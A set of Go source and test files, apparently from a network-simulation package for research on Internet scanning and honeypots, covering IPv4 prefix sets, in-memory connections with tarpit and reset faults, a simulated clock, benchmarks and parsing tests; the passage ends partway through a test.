func (p Prefix) Index(ip IPv4) (uint64, bool) {
	if !p.Contains(ip) {
		return 0, false
	}
	return uint64(ip - p.IP), true
}

// String renders CIDR notation.
func (p Prefix) String() string {
	return p.IP.String() + "/" + strconv.Itoa(p.Bits)
}

// PrefixSet is a collection of prefixes supporting membership queries. It is
// the data structure behind scan blocklists (ZMap default blocklist, the
// FireHOL-EU style region blocklist) and telescope capture filters.
//
// Membership is O(1) amortized: a lookup masks the address with each prefix
// length present in the set (at most 33) and probes a hash map, so nested
// and overlapping prefixes are handled exactly.
type PrefixSet struct {
	byPrefix map[Prefix]struct{}
	lengths  []int // distinct prefix lengths, ascending
}

// NewPrefixSet builds a set from the given prefixes.
func NewPrefixSet(prefixes ...Prefix) *PrefixSet {
	s := &PrefixSet{byPrefix: make(map[Prefix]struct{}, len(prefixes))}
	for _, p := range prefixes {
		s.Add(p)
	}
	return s
}

// Add inserts a prefix.
func (s *PrefixSet) Add(p Prefix) {
	if s.byPrefix == nil {
		s.byPrefix = make(map[Prefix]struct{})
	}
	p = NewPrefix(p.IP, p.Bits) // canonicalize
	if _, ok := s.byPrefix[p]; ok {
		return
	}
	s.byPrefix[p] = struct{}{}
	i := sort.SearchInts(s.lengths, p.Bits)
	if i == len(s.lengths) || s.lengths[i] != p.Bits {
		s.lengths = append(s.lengths, 0)
		copy(s.lengths[i+1:], s.lengths[i:])
		s.lengths[i] = p.Bits
	}
}

// Contains reports whether ip is covered by any prefix in the set.
func (s *PrefixSet) Contains(ip IPv4) bool {
	for _, bits := range s.lengths {
		if _, ok := s.byPrefix[Prefix{IP: ip & mask(bits), Bits: bits}]; ok {
			return true
		}
	}
	return false
}

// Overlaps reports whether any prefix in the set shares at least one
// address with p. Scan iterators use it to drop per-address blocklist
// checks entirely when the scanned range and the blocklist are disjoint.
func (s *PrefixSet) Overlaps(p Prefix) bool {
	for q := range s.byPrefix {
		if q.Bits >= p.Bits {
			if p.Contains(q.IP) {
				return true
			}
		} else if q.Contains(p.IP) {
			return true
		}
	}
	return false
}

// Len returns the number of prefixes in the set.
func (s *PrefixSet) Len() int { return len(s.byPrefix) }

// Prefixes returns the set contents sorted by base address then length.
func (s *PrefixSet) Prefixes() []Prefix {
	out := make([]Prefix, 0, len(s.byPrefix))
	for p := range s.byPrefix {
		out = append(out, p)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].IP != out[j].IP {
			return out[i].IP < out[j].IP
		}
		return out[i].Bits < out[j].Bits
	})
	return out
}

// CountCovered returns how many addresses of p are covered by the set.
// It is used to size scan exclusions exactly.
func (s *PrefixSet) CountCovered(p Prefix) uint64 {
	var n uint64
	for i := uint64(0); i < p.Size(); i++ {
		if s.Contains(p.Nth(i)) {
			n++
		}
	}
	return n
}
