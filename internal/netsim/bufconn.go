package netsim

import (
	"errors"
	"io"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

// ErrConnRefused is returned by Dial when the destination host exists but
// does not listen on the requested port (the TCP RST case).
var ErrConnRefused = errors.New("netsim: connection refused")

// ErrHostUnreachable is returned by Dial and Query when no host exists at the
// destination address (darknet space).
var ErrHostUnreachable = errors.New("netsim: host unreachable")

// ErrProbeTimeout is returned by Dial when the network's fault model drops
// the SYN, the host is rate-limiting the source, or the simulated round-trip
// exceeds the sender's ProbeOptions.Timeout. Unlike ErrConnRefused and
// ErrHostUnreachable it is a *transient* verdict: retransmitting with a
// higher ProbeOptions.Attempt draws fresh loss and jitter and may succeed.
var ErrProbeTimeout = errors.New("netsim: probe timed out")

// pipeBuffer is one direction of a duplex in-memory connection: a bounded
// byte queue with blocking reads, deadline support and half-close semantics.
// Reads and writes on one buffer come from the two different endpoints of
// the connection (A reads what B wrote), so read and write deadlines are
// independent fields: endpoint A's read deadline must not disturb endpoint
// B's write deadline.
type pipeBuffer struct {
	mu            sync.Mutex
	cond          *sync.Cond
	buf           []byte
	closed        bool // write side closed: reads drain then return io.EOF
	broken        bool // connection torn down: reads/writes fail immediately
	readDeadline  time.Time
	writeDeadline time.Time
	readTimer     *time.Timer
	writeTimer    *time.Timer
	max           int
}

func newPipeBuffer(max int) *pipeBuffer {
	b := &pipeBuffer{max: max}
	b.cond = sync.NewCond(&b.mu)
	return b
}

func (b *pipeBuffer) read(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	for {
		if b.broken {
			return 0, io.ErrClosedPipe
		}
		if len(b.buf) > 0 {
			n := copy(p, b.buf)
			b.buf = b.buf[n:]
			if len(b.buf) == 0 {
				b.buf = nil
			}
			b.cond.Broadcast() // wake writers blocked on a full buffer
			return n, nil
		}
		if b.closed {
			return 0, io.EOF
		}
		if !b.readDeadline.IsZero() && !time.Now().Before(b.readDeadline) {
			return 0, os.ErrDeadlineExceeded
		}
		b.cond.Wait()
	}
}

func (b *pipeBuffer) write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	var written int
	for len(p) > 0 {
		if b.broken || b.closed {
			return written, io.ErrClosedPipe
		}
		if !b.writeDeadline.IsZero() && !time.Now().Before(b.writeDeadline) {
			return written, os.ErrDeadlineExceeded
		}
		space := b.max - len(b.buf)
		if space == 0 {
			b.cond.Wait()
			continue
		}
		n := len(p)
		if n > space {
			n = space
		}
		b.buf = append(b.buf, p[:n]...)
		p = p[n:]
		written += n
		b.cond.Broadcast()
	}
	return written, nil
}

// closeWrite marks the write side closed; pending data remains readable.
func (b *pipeBuffer) closeWrite() {
	b.mu.Lock()
	b.closed = true
	b.cond.Broadcast()
	b.mu.Unlock()
}

// breakPipe tears the connection down immediately, discarding buffered data.
func (b *pipeBuffer) breakPipe() {
	b.mu.Lock()
	b.broken = true
	b.buf = nil
	b.cond.Broadcast()
	b.mu.Unlock()
}

func (b *pipeBuffer) setReadDeadline(t time.Time) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.readDeadline = t
	b.readTimer = b.resetTimer(b.readTimer, t)
	b.cond.Broadcast()
}

func (b *pipeBuffer) setWriteDeadline(t time.Time) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.writeDeadline = t
	b.writeTimer = b.resetTimer(b.writeTimer, t)
	b.cond.Broadcast()
}

// resetTimer arms a wake-up at t so blocked waiters observe an expired
// deadline. Must be called with b.mu held.
func (b *pipeBuffer) resetTimer(old *time.Timer, t time.Time) *time.Timer {
	if old != nil {
		old.Stop()
	}
	if t.IsZero() {
		return nil
	}
	d := time.Until(t)
	if d < 0 {
		d = 0
	}
	return time.AfterFunc(d, func() {
		b.mu.Lock()
		b.cond.Broadcast()
		b.mu.Unlock()
	})
}

// conn is one endpoint of an in-memory duplex connection. It implements
// net.Conn so protocol implementations run unmodified over the simulation.
type conn struct {
	read    *pipeBuffer // data flowing toward this endpoint
	write   *pipeBuffer // data flowing away from this endpoint
	local   Endpoint
	remote  Endpoint
	closeMu sync.Mutex
	closed  bool
	onClose func()

	// sf, when set, injects a stream pathology into this endpoint's writes
	// (the server side of a faulted dial). faultTruncated/faultReset are
	// raised on the *peer* endpoint when the pathology trips, so the client
	// can tell a tarpitted or reset conversation apart from a clean close.
	sf             *streamFault
	faultTruncated atomic.Bool
	faultReset     atomic.Bool
}

// streamFault cuts one direction of a connection after a byte budget,
// modelling either a tarpit the dialer gave up on (the drip outlasts any
// reasonable read window, so only a prefix of the banner is ever seen) or a
// mid-stream TCP RST. The budget is decided once, deterministically, when
// the dial is faulted; tripping does not depend on scheduling.
type streamFault struct {
	mu        sync.Mutex
	remaining int  // bytes still allowed through
	reset     bool // true: RST (discard in flight); false: tarpit cut (EOF after prefix)
	tripped   bool
	peer      *conn // the dialing endpoint, flagged on trip
}

// write passes bytes through until the budget is spent, then trips.
func (f *streamFault) write(c *conn, p []byte) (int, error) {
	f.mu.Lock()
	if f.tripped {
		f.mu.Unlock()
		return 0, io.ErrClosedPipe
	}
	allow := len(p)
	trip := false
	if allow >= f.remaining {
		allow = f.remaining
		trip = true
		f.tripped = true
	}
	f.remaining -= allow
	f.mu.Unlock()

	n, err := 0, error(nil)
	if allow > 0 {
		n, err = c.write.write(p[:allow])
	}
	if !trip {
		return n, err
	}
	if f.reset {
		// RST: both directions torn down, in-flight data discarded.
		f.peer.faultReset.Store(true)
		c.write.breakPipe()
		c.read.breakPipe()
	} else {
		// Tarpit cut: the prefix already written stays readable, then EOF.
		f.peer.faultTruncated.Store(true)
		c.write.closeWrite()
	}
	return n, io.ErrClosedPipe
}

// connBufferSize bounds each direction of an in-memory connection. 64 KiB
// mirrors a typical kernel socket buffer and keeps floods from exhausting
// memory.
const connBufferSize = 64 << 10

// NewConnPair returns two connected net.Conn endpoints, as if client had
// dialed server. It is exported for protocol tests that do not need a full
// Network.
func NewConnPair(client, server Endpoint) (net.Conn, net.Conn) {
	c2s := newPipeBuffer(connBufferSize)
	s2c := newPipeBuffer(connBufferSize)
	cc := &conn{read: s2c, write: c2s, local: client, remote: server}
	sc := &conn{read: c2s, write: s2c, local: server, remote: client}
	return cc, sc
}

// NewServiceConnPair is NewConnPair wrapped in ServiceConn values stamped
// with dialTime, for driving StreamHandlers directly in protocol tests.
func NewServiceConnPair(client, server Endpoint, dialTime time.Time) (*ServiceConn, *ServiceConn) {
	cc, sc := NewConnPair(client, server)
	return &ServiceConn{Conn: cc, DialTime: dialTime},
		&ServiceConn{Conn: sc, DialTime: dialTime}
}

func (c *conn) Read(p []byte) (int, error) { return c.read.read(p) }

func (c *conn) Write(p []byte) (int, error) {
	if c.sf != nil {
		return c.sf.write(c, p)
	}
	return c.write.write(p)
}

// Close shuts down both directions. The peer reading drained data still sees
// it (TCP FIN semantics), then io.EOF.
func (c *conn) Close() error {
	c.closeMu.Lock()
	if c.closed {
		c.closeMu.Unlock()
		return nil
	}
	c.closed = true
	cb := c.onClose
	c.closeMu.Unlock()
	c.write.closeWrite()
	c.read.closeWrite()
	if cb != nil {
		cb()
	}
	return nil
}

// Abort tears the connection down in both directions, discarding buffers.
// It models a RST and is used by honeypot DoS protection.
func (c *conn) Abort() {
	c.write.breakPipe()
	c.read.breakPipe()
	_ = c.Close()
}

func (c *conn) LocalAddr() net.Addr  { return simAddr{transport: TCP, ep: c.local} }
func (c *conn) RemoteAddr() net.Addr { return simAddr{transport: TCP, ep: c.remote} }

func (c *conn) SetDeadline(t time.Time) error {
	c.read.setReadDeadline(t)
	c.write.setWriteDeadline(t)
	return nil
}

func (c *conn) SetReadDeadline(t time.Time) error {
	c.read.setReadDeadline(t)
	return nil
}

func (c *conn) SetWriteDeadline(t time.Time) error {
	c.write.setWriteDeadline(t)
	return nil
}

// simAddr is the net.Addr implementation for simulated endpoints.
type simAddr struct {
	transport Transport
	ep        Endpoint
}

func (a simAddr) Network() string { return a.transport.String() }
func (a simAddr) String() string  { return a.ep.String() }

// RemoteIPv4 extracts the simulated source address from a connection handed
// to a service handler. It returns false for non-simulated connections
// (e.g. a real TCP conn in integration tests).
func RemoteIPv4(c net.Conn) (IPv4, bool) {
	if sc, ok := c.(*conn); ok {
		return sc.remote.IP, true
	}
	if a, ok := c.RemoteAddr().(simAddr); ok {
		return a.ep.IP, true
	}
	return 0, false
}
