package netsim

import (
	"errors"
	"sync"
	"time"
)

// Clock is the time source for the simulation. Experiments replay a full
// month of attack traffic in seconds, so simulated components must never read
// the wall clock directly; they take a Clock and the driver advances it.
type Clock interface {
	// Now returns the current simulated time.
	Now() time.Time
}

// SimClock is a manually advanced Clock. It is safe for concurrent use.
type SimClock struct {
	mu  sync.RWMutex
	now time.Time
}

// NewSimClock returns a clock starting at the given instant.
func NewSimClock(start time.Time) *SimClock {
	return &SimClock{now: start}
}

// Now returns the current simulated time.
func (c *SimClock) Now() time.Time {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return c.now
}

// Advance moves the clock forward by d and returns the new time.
// Negative durations are ignored: simulated time never goes backwards.
func (c *SimClock) Advance(d time.Duration) time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	if d > 0 {
		c.now = c.now.Add(d)
	}
	return c.now
}

// ErrClockBackwards is returned by Set when the requested instant is before
// the current simulated time. The clock is left unchanged: simulated time is
// monotonic, and a driver that schedules against an already-passed instant
// has a bug it needs to hear about rather than a silently skewed timeline.
var ErrClockBackwards = errors.New("netsim: SimClock.Set would move time backwards")

// Set jumps the clock to t. Setting the current time again is a no-op;
// setting an earlier time fails with ErrClockBackwards and does not move
// the clock.
func (c *SimClock) Set(t time.Time) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if t.Before(c.now) {
		return ErrClockBackwards
	}
	c.now = t
	return nil
}

// WallClock is a Clock backed by the real time.Now, used by the runnable
// examples when interacting with real sockets.
type WallClock struct{}

// Now returns time.Now().
func (WallClock) Now() time.Time { return time.Now() }

// ExperimentStart is the canonical start of the simulated measurement month.
// The paper recorded attacks during April 2021 (Section 3.3.2); all simulated
// timestamps are anchored here so daily series line up with Figure 8.
var ExperimentStart = time.Date(2021, time.April, 1, 0, 0, 0, 0, time.UTC)
