package netsim

import "testing"

// benchProviders registers a realistic provider mix: one wide universe
// prefix plus a spread of more-specific carve-outs, the shape the scanner
// resolves against on every probe.
func benchProviders(n *Network) {
	dark := HostProviderFunc(func(IPv4) Host { return nil })
	live := HostProviderFunc(func(IPv4) Host { return testHost{} })
	n.AddProvider(MustParsePrefix("10.0.0.0/8"), live)
	for i := 0; i < 16; i++ {
		n.AddProvider(NewPrefix(IPv4(uint32(10)<<24|uint32(i)<<16), 16), dark)
	}
	n.AddProvider(MustParsePrefix("100.64.0.0/10"), live)
}

// BenchmarkLookupHost measures host resolution for a covered address —
// the per-probe cost the scanner pays even on a dark Internet.
func BenchmarkLookupHost(b *testing.B) {
	n := NewNetwork(nil)
	benchProviders(n)
	ip := MustParseIPv4("10.200.0.1")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if h := n.lookupHost(ip); h == nil {
			b.Fatal("expected host")
		}
	}
}

// BenchmarkLookupHostMiss measures resolution for an uncovered (dark)
// address, the overwhelmingly common case in an Internet-wide sweep.
func BenchmarkLookupHostMiss(b *testing.B) {
	n := NewNetwork(nil)
	benchProviders(n)
	ip := MustParseIPv4("203.0.113.7")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if h := n.lookupHost(ip); h != nil {
			b.Fatal("unexpected host")
		}
	}
}

// BenchmarkEmitNoObserver measures the emit fast path when no observer
// covers the destination (dark Internet, telescope elsewhere).
func BenchmarkEmitNoObserver(b *testing.B) {
	n := NewNetwork(nil)
	benchProviders(n)
	n.AddObserver(MustParsePrefix("44.0.0.0/8"), ObserverFunc(func(ProbeEvent) {}))
	ev := ProbeEvent{Dst: Endpoint{IP: MustParseIPv4("10.200.0.1"), Port: 23}}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		n.emit(ev)
	}
}
