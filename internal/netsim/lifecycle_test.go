package netsim

// lifecycle_test.go pins the conversation engine's fault and teardown
// lifecycles to the retired goroutine-per-dial implementation. The legacy
// machinery (pipe connections, streamFault, a handler goroutine per dial) is
// still in-package for NewConnPair fixtures, so each edge case runs the SAME
// handler on both paths and asserts the client- and server-side observables
// are identical: bytes delivered, error identities, fault classification
// flags, and handler completion.

import (
	"context"
	"errors"
	"io"
	"runtime"
	"sync/atomic"
	"testing"
	"time"
)

// bannerLineHandler writes a banner, then reads to EOF and answers with one
// echo line, reporting the server-side observations for comparison.
type bannerLineHandler struct {
	banner    []byte
	bannerErr error
	got       []byte
	writeErr  error
	served    atomic.Bool
}

func (h *bannerLineHandler) Serve(_ context.Context, c *ServiceConn) {
	defer h.served.Store(true)
	if _, err := c.Write(h.banner); err != nil {
		h.bannerErr = err
		return
	}
	_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
	got, err := io.ReadAll(c)
	if err != nil {
		h.bannerErr = err
		return
	}
	h.got = got
	_, h.writeErr = c.Write([]byte("echo: OK\n"))
}

// singleHostNetwork serves handler on 10.0.0.1:7 with the given fault model.
func singleHostNetwork(handler StreamHandler, fm FaultModel) *Network {
	n := NewNetwork(NewSimClock(ExperimentStart))
	n.AddProvider(MustParsePrefix("10.0.0.0/8"), HostProviderFunc(func(ip IPv4) Host {
		if ip == MustParseIPv4("10.0.0.1") {
			return fixedHost{handler: handler}
		}
		return nil
	}))
	if fm != nil {
		n.SetFaults(fm)
	}
	return n
}

type fixedHost struct{ handler StreamHandler }

func (h fixedHost) StreamService(port uint16) StreamHandler {
	if port == 7 {
		return h.handler
	}
	return nil
}
func (fixedHost) DatagramService(uint16) DatagramHandler { return nil }

// fixedPlanFaults returns the same FaultPlan for every probe.
type fixedPlanFaults struct{ plan FaultPlan }

func (f fixedPlanFaults) PlanProbe(IPv4, Endpoint, Transport, uint32, time.Time) FaultPlan {
	return f.plan
}

func (fixedPlanFaults) Blackholed(IPv4, IPv4) bool { return false }

// runLegacyDial reconstructs the retired dial: pipe pair, streamFault on the
// server endpoint, handler on its own goroutine, framework close after
// Serve. It returns the client conn and a channel closed when the handler
// (and its framework close) has finished.
func runLegacyDial(handler StreamHandler, truncateAfter, resetAfter int) (*ServiceConn, chan struct{}) {
	cc, sc := NewConnPair(
		Endpoint{IP: MustParseIPv4("192.0.2.1"), Port: 40000},
		Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 7},
	)
	if truncateAfter > 0 || resetAfter > 0 {
		budget, reset := truncateAfter, false
		if resetAfter > 0 {
			budget, reset = resetAfter, true
		}
		sc.(*conn).sf = &streamFault{remaining: budget, reset: reset, peer: cc.(*conn)}
	}
	client := &ServiceConn{Conn: cc, DialTime: ExperimentStart}
	server := &ServiceConn{Conn: sc, DialTime: ExperimentStart}
	done := make(chan struct{})
	go func() {
		handler.Serve(context.Background(), server)
		_ = server.Close()
		close(done)
	}()
	return client, done
}

// readAllWithDeadline drains the client side with a generous deadline so a
// blocked read can never hang the test.
func readAllWithDeadline(c *ServiceConn) ([]byte, error) {
	_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
	return io.ReadAll(c)
}

// TestLifecycleTarpitEquivalence: a tarpit cut after 8 banner bytes must
// deliver the identical prefix, clean EOF, and FaultTruncated classification
// on both the engine and the legacy goroutine path.
func TestLifecycleTarpitEquivalence(t *testing.T) {
	banner := []byte("220 welcome to the machine\r\n")
	const cut = 8

	legacyH := &bannerLineHandler{banner: banner}
	legacyConn, done := runLegacyDial(legacyH, cut, 0)
	<-done // fault trips during the banner write; wait so the read is deterministic
	legacyGot, legacyErr := readAllWithDeadline(legacyConn)
	_ = legacyConn.Close()

	engineH := &bannerLineHandler{banner: banner}
	n := singleHostNetwork(engineH, fixedPlanFaults{plan: FaultPlan{TruncateAfter: cut}})
	engineConn, err := n.Dial(context.Background(), MustParseIPv4("192.0.2.1"),
		Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 7}, ProbeOptions{})
	if err != nil {
		t.Fatal(err)
	}
	engineGot, engineErr := readAllWithDeadline(engineConn)
	_ = engineConn.Close()
	n.Quiesce()

	if string(engineGot) != string(legacyGot) || string(engineGot) != string(banner[:cut]) {
		t.Fatalf("delivered prefix differs: engine %q, legacy %q, want %q",
			engineGot, legacyGot, banner[:cut])
	}
	if legacyErr != nil || engineErr != nil {
		t.Fatalf("tarpit cut must end in clean EOF: engine err %v, legacy err %v", engineErr, legacyErr)
	}
	for _, tc := range []struct {
		name string
		conn *ServiceConn
	}{{"engine", engineConn}, {"legacy", legacyConn}} {
		if !tc.conn.FaultTruncated() || tc.conn.FaultReset() {
			t.Fatalf("%s flags: truncated=%v reset=%v, want true/false",
				tc.name, tc.conn.FaultTruncated(), tc.conn.FaultReset())
		}
	}
	if !errors.Is(legacyH.bannerErr, io.ErrClosedPipe) || !errors.Is(engineH.bannerErr, io.ErrClosedPipe) {
		t.Fatalf("server write past the cut: engine err %v, legacy err %v, want ErrClosedPipe",
			engineH.bannerErr, legacyH.bannerErr)
	}
}

// TestLifecycleMidStreamResetEquivalence: an injected RST mid-banner must
// discard in-flight data, surface io.ErrClosedPipe to the client read, and
// set FaultReset on both paths.
func TestLifecycleMidStreamResetEquivalence(t *testing.T) {
	banner := []byte("220 welcome to the machine\r\n")
	const cut = 8

	legacyH := &bannerLineHandler{banner: banner}
	legacyConn, done := runLegacyDial(legacyH, 0, cut)
	<-done
	_, legacyErr := readAllWithDeadline(legacyConn)
	_ = legacyConn.Close()

	engineH := &bannerLineHandler{banner: banner}
	n := singleHostNetwork(engineH, fixedPlanFaults{plan: FaultPlan{ResetAfter: cut}})
	engineConn, err := n.Dial(context.Background(), MustParseIPv4("192.0.2.1"),
		Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 7}, ProbeOptions{})
	if err != nil {
		t.Fatal(err)
	}
	_, engineErr := readAllWithDeadline(engineConn)
	_ = engineConn.Close()
	n.Quiesce()

	if !errors.Is(legacyErr, io.ErrClosedPipe) || !errors.Is(engineErr, io.ErrClosedPipe) {
		t.Fatalf("reset read error: engine %v, legacy %v, want ErrClosedPipe", engineErr, legacyErr)
	}
	for _, tc := range []struct {
		name string
		conn *ServiceConn
	}{{"engine", engineConn}, {"legacy", legacyConn}} {
		if !tc.conn.FaultReset() || tc.conn.FaultTruncated() {
			t.Fatalf("%s flags: reset=%v truncated=%v, want true/false",
				tc.name, tc.conn.FaultReset(), tc.conn.FaultTruncated())
		}
	}
}

// TestLifecycleClientCloseBeforeServerWriteEquivalence: the client sends a
// line and closes before the server answers. Both paths must deliver the
// full line to the server (FIN semantics: buffered data survives the close)
// and fail the server's late write with io.ErrClosedPipe.
func TestLifecycleClientCloseBeforeServerWriteEquivalence(t *testing.T) {
	// Empty banner: the handler goes straight to reading until EOF, so the
	// client's close deterministically precedes the server's echo write.
	legacyH := &bannerLineHandler{}
	legacyConn, done := runLegacyDial(legacyH, 0, 0)
	if _, err := legacyConn.Write([]byte("hi\n")); err != nil {
		t.Fatal(err)
	}
	_ = legacyConn.Close()
	<-done

	engineH := &bannerLineHandler{}
	n := singleHostNetwork(engineH, nil)
	engineConn, err := n.Dial(context.Background(), MustParseIPv4("192.0.2.1"),
		Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 7}, ProbeOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := engineConn.Write([]byte("hi\n")); err != nil {
		t.Fatal(err)
	}
	_ = engineConn.Close()
	n.Quiesce()

	for _, tc := range []struct {
		name string
		h    *bannerLineHandler
	}{{"engine", engineH}, {"legacy", legacyH}} {
		if !tc.h.served.Load() {
			t.Fatalf("%s handler did not complete", tc.name)
		}
		if string(tc.h.got) != "hi\n" {
			t.Fatalf("%s server received %q, want %q", tc.name, tc.h.got, "hi\n")
		}
		if !errors.Is(tc.h.writeErr, io.ErrClosedPipe) {
			t.Fatalf("%s server write after client close: err %v, want ErrClosedPipe",
				tc.name, tc.h.writeErr)
		}
	}
}

// TestQuiesceRacingDialPanics pins the Quiesce misuse diagnostic: a Dial
// issued while Quiesce is waiting out in-flight handlers must panic loudly
// instead of landing its conversation tail past the boundary.
func TestQuiesceRacingDialPanics(t *testing.T) {
	h := &bannerLineHandler{banner: []byte("hello\n")}
	n := singleHostNetwork(h, nil)
	dst := Endpoint{IP: MustParseIPv4("10.0.0.1"), Port: 7}

	// Park a handler in flight (it reads until the client closes), so
	// Quiesce blocks with the quiescing flag raised.
	conn, err := n.Dial(context.Background(), MustParseIPv4("192.0.2.1"), dst, ProbeOptions{})
	if err != nil {
		t.Fatal(err)
	}
	quiesced := make(chan struct{})
	go func() {
		n.Quiesce()
		close(quiesced)
	}()
	for !n.quiescing.Load() {
		runtime.Gosched()
	}

	recovered := func() (r any) {
		defer func() { r = recover() }()
		_, _ = n.Dial(context.Background(), MustParseIPv4("192.0.2.2"), dst, ProbeOptions{})
		return nil
	}()
	if recovered == nil {
		t.Fatal("Dial racing Quiesce did not panic")
	}

	_ = conn.Close()
	<-quiesced
}
