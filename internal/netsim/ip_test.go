package netsim

import (
	"testing"
	"testing/quick"
)

func TestParseIPv4(t *testing.T) {
	cases := []struct {
		in   string
		want IPv4
		ok   bool
	}{
		{"0.0.0.0", 0, true},
		{"255.255.255.255", 0xffffffff, true},
		{"192.0.2.1", 0xc0000201, true},
		{"10.0.0.1", 0x0a000001, true},
		{"1.2.3", 0, false},
		{"1.2.3.4.5", 0, false},
		{"256.0.0.1", 0, false},
		{"a.b.c.d", 0, false},
		{"", 0, false},
		{"-1.0.0.0", 0, false},
	}
	for _, c := range cases {
		got, err := ParseIPv4(c.in)
		if c.ok && (err != nil || got != c.want) {
			t.Errorf("ParseIPv4(%q) = %v, %v; want %v", c.in, got, err, c.want)
		}
		if !c.ok && err == nil {
			t.Errorf("ParseIPv4(%q) succeeded, want error", c.in)
		}
	}
}

func TestIPv4RoundTrip(t *testing.T) {
	if err := quick.Check(func(v uint32) bool {
		ip := IPv4(v)
		back, err := ParseIPv4(ip.String())
		return err == nil && back == ip
	}, nil); err != nil {
		t.Fatal(err)
	}
}

func TestIPv4Octets(t *testing.T) {
	ip := MustParseIPv4("1.2.3.4")
	if got := ip.Octets(); got != [4]byte{1, 2, 3, 4} {
		t.Fatalf("Octets() = %v", got)
	}
}

func TestMustParsePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("MustParseIPv4 did not panic")
		}
	}()
	MustParseIPv4("not-an-ip")
}

func TestEndpointString(t *testing.T) {
	ep := Endpoint{IP: MustParseIPv4("10.1.2.3"), Port: 1883}
	if got := ep.String(); got != "10.1.2.3:1883" {
		t.Fatalf("Endpoint.String() = %q", got)
	}
}

func TestTransportString(t *testing.T) {
	if TCP.String() != "tcp" || UDP.String() != "udp" {
		t.Fatal("transport names wrong")
	}
	if Transport(9).String() != "transport(9)" {
		t.Fatal("unknown transport name wrong")
	}
}

func TestParsePrefix(t *testing.T) {
	p := MustParsePrefix("10.0.0.0/8")
	if p.Size() != 1<<24 {
		t.Fatalf("Size() = %d", p.Size())
	}
	if !p.Contains(MustParseIPv4("10.255.0.1")) {
		t.Fatal("Contains failed for in-range address")
	}
	if p.Contains(MustParseIPv4("11.0.0.0")) {
		t.Fatal("Contains matched out-of-range address")
	}
	if p.First() != MustParseIPv4("10.0.0.0") || p.Last() != MustParseIPv4("10.255.255.255") {
		t.Fatal("First/Last wrong")
	}
}

func TestParsePrefixCanonicalizes(t *testing.T) {
	p := MustParsePrefix("10.5.7.9/8")
	if p.IP != MustParseIPv4("10.0.0.0") {
		t.Fatalf("base not canonicalized: %v", p.IP)
	}
}

func TestParsePrefixErrors(t *testing.T) {
	for _, in := range []string{"10.0.0.0", "10.0.0.0/33", "10.0.0.0/-1", "x/8", "10.0.0.0/x"} {
		if _, err := ParsePrefix(in); err == nil {
			t.Errorf("ParsePrefix(%q) succeeded, want error", in)
		}
	}
}

func TestPrefixNthIndex(t *testing.T) {
	p := MustParsePrefix("192.168.0.0/24")
	ip := p.Nth(200)
	if ip != MustParseIPv4("192.168.0.200") {
		t.Fatalf("Nth(200) = %v", ip)
	}
	idx, ok := p.Index(ip)
	if !ok || idx != 200 {
		t.Fatalf("Index = %d, %v", idx, ok)
	}
	if _, ok := p.Index(MustParseIPv4("192.168.1.0")); ok {
		t.Fatal("Index matched outside address")
	}
}

func TestPrefixNthPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("Nth out of range did not panic")
		}
	}()
	MustParsePrefix("10.0.0.0/24").Nth(256)
}

func TestPrefixZeroBits(t *testing.T) {
	p := MustParsePrefix("0.0.0.0/0")
	if p.Size() != 1<<32 {
		t.Fatalf("/0 Size() = %d", p.Size())
	}
	if !p.Contains(MustParseIPv4("255.1.2.3")) {
		t.Fatal("/0 must contain everything")
	}
}

func TestPrefixSet(t *testing.T) {
	s := NewPrefixSet(
		MustParsePrefix("10.0.0.0/8"),
		MustParsePrefix("192.168.0.0/16"),
		MustParsePrefix("192.168.1.0/24"), // nested
	)
	if s.Len() != 3 {
		t.Fatalf("Len() = %d", s.Len())
	}
	for _, in := range []string{"10.1.2.3", "192.168.1.4", "192.168.200.1"} {
		if !s.Contains(MustParseIPv4(in)) {
			t.Errorf("Contains(%s) = false", in)
		}
	}
	for _, out := range []string{"11.0.0.1", "192.169.0.1", "8.8.8.8"} {
		if s.Contains(MustParseIPv4(out)) {
			t.Errorf("Contains(%s) = true", out)
		}
	}
}

func TestPrefixSetDuplicates(t *testing.T) {
	s := NewPrefixSet()
	s.Add(MustParsePrefix("10.0.0.0/8"))
	s.Add(MustParsePrefix("10.0.0.0/8"))
	if s.Len() != 1 {
		t.Fatalf("duplicate add grew set: %d", s.Len())
	}
}

func TestPrefixSetZeroValue(t *testing.T) {
	var s PrefixSet
	if s.Contains(MustParseIPv4("1.2.3.4")) {
		t.Fatal("empty set contained an address")
	}
	s.Add(MustParsePrefix("1.0.0.0/8"))
	if !s.Contains(MustParseIPv4("1.2.3.4")) {
		t.Fatal("add to zero-value set failed")
	}
}

func TestPrefixSetProperty(t *testing.T) {
	// Membership in the set must agree with a linear scan over the prefixes.
	prefixes := []Prefix{
		MustParsePrefix("0.0.0.0/8"),
		MustParsePrefix("100.64.0.0/10"),
		MustParsePrefix("127.0.0.0/8"),
		MustParsePrefix("224.0.0.0/4"),
	}
	s := NewPrefixSet(prefixes...)
	if err := quick.Check(func(v uint32) bool {
		ip := IPv4(v)
		want := false
		for _, p := range prefixes {
			if p.Contains(ip) {
				want = true
			}
		}
		return s.Contains(ip) == want
	}, nil); err != nil {
		t.Fatal(err)
	}
}

func TestPrefixSetCountCovered(t *testing.T) {
	s := NewPrefixSet(MustParsePrefix("10.0.0.0/30"))
	got := s.CountCovered(MustParsePrefix("10.0.0.0/28"))
	if got != 4 {
		t.Fatalf("CountCovered = %d, want 4", got)
	}
}

func TestPrefixesSorted(t *testing.T) {
	s := NewPrefixSet(
